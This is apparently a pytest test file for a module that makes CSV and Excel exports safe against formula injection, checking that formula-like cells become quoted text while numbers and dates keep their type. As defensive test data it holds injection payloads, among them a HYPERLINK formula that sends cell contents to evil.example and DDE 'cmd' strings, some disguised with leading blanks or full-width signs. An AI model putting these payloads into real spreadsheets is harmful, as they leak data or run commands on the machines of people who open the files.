"""Spreadsheet-safe cells: formula-like text is text in CSV and Excel; numbers and dates keep their type."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cdyb_jxc.safety.spreadsheet import FORMULA_STARTS, csv_cell, is_formula_like, write_csv, write_xlsx

HEADER = ["流水号 serial_no", "医院项目名称", "原因 reason", "发送次数 attempts"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_each_formula_start_is_recognised_and_nothing_else() -> None:
    assert FORMULA_STARTS == ("=", "+", "-", "@", "\t", "\r")
    assert all(is_formula_like(text) for text in FORMULAS)
    assert not any(is_formula_like(text) for text in ("CK001", "阿莫西林", " a=1", "'=1", "1-2", "", "  "))


# Spreadsheet apps trim leading blanks and fold full-width signs before they decide a cell is a formula.
SHIELDED = [
    " =1+1",
    "   +cmd|' /C calc'!A0",
    '\u00a0=HYPERLINK("http://evil.example/")',
    "\u3000-2+3",
    "\u200b@SUM(1,2)",
    "\ufeff=1",
    "\u2060 \u200d=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "|cmd",
    " ｜cmd",
]


@pytest.mark.parametrize("text", SHIELDED)
def test_formula_behind_leading_blanks_or_in_full_width_is_neutralised(text: str, tmp_path: Path) -> None:
    assert is_formula_like(text)
    assert csv_cell(text) == "'" + text
    path = tmp_path / "r.xlsx"
    write_xlsx(path, ["a", "n"], [[text, -5]], "s")
    cell, number = next(load_workbook(path).active.iter_rows(min_row=2, values_only=False))
    assert (cell.data_type, cell.value) == ("s", text)
    assert (number.data_type, number.value) == ("n", -5)  # numbers stay numbers


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cell_prefixes_formula_like_text_with_a_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text


def test_csv_cell_leaves_numbers_dates_and_plain_text_alone() -> None:
    assert csv_cell(-3) == -3
    assert csv_cell(1.5) == 1.5
    assert csv_cell(Decimal("-0.5")) == Decimal("-0.5")
    assert csv_cell("CK-1") == "CK-1"
    assert csv_cell(None) == ""
    assert csv_cell(datetime(2026, 11, 20, 8, 30)) == "2026-11-20 08:30:00"


def _rows() -> list[list[object]]:
    return [[f"CK{i}", text, text, i] for i, text in enumerate(FORMULAS)] + [["CK-N", "普通", None, -7]]


def test_csv_file_has_every_formula_like_cell_quoted_and_numbers_plain(tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    write_csv(path, HEADER, _rows())
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == HEADER
    for (serial, name, detail, attempts), text in zip(rows[1:], FORMULAS, strict=False):
        assert (name, detail) == ("'" + text, "'" + text)
        assert serial.startswith("CK")
        assert attempts.isdigit()
    assert rows[-1] == ["CK-N", "普通", "", "-7"]  # a negative number stays a number
    for row in rows[1:]:
        for cell in row:
            assert not is_formula_like(cell) or cell.lstrip("-").isdigit(), cell


def test_csv_into_a_caller_file_object_leaves_it_open() -> None:
    buf = io.BytesIO()
    write_csv(buf, ["a"], [["=1"]])
    assert not buf.closed
    assert buf.getvalue().decode("utf-8-sig") == "a\r\n'=1\r\n"


def test_xlsx_never_holds_a_formula_and_keeps_the_text_and_numbers(tmp_path: Path) -> None:
    path = tmp_path / "r.xlsx"
    when = datetime(2026, 11, 20, 8, 30, tzinfo=UTC)
    write_xlsx(path, HEADER, [*_rows(), ["CK-T", "时间", when, Decimal("2.5")]], "rejects")
    sheet = load_workbook(path).active
    assert sheet.title == "rejects"
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.data_type for c in cells if c.data_type == "f"] == []
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    for row, text in zip(values[1:], FORMULAS, strict=False):
        assert row[1] == row[2] == text  # exact text, as a string cell
    assert values[len(FORMULAS) + 1] == ["CK-N", "普通", None, -7]
    assert values[-1] == ["CK-T", "时间", datetime(2026, 11, 20, 8, 30), 2.5]  # UTC, as Excel has no zones
    numbers = [c for c in cells if c.column == 4 and c.row > 1]
    assert all(c.data_type == "n" for c in numbers)


def test_xlsx_shows_characters_a_workbook_cannot_hold_instead_of_failing(tmp_path: Path) -> None:
    path = tmp_path / "ctl.xlsx"
    write_xlsx(path, ["a"], [["bell\x07and\x00nul"]], "rejects")
    assert load_workbook(path).active["A2"].value == "bell\\x07and\\x00nul"
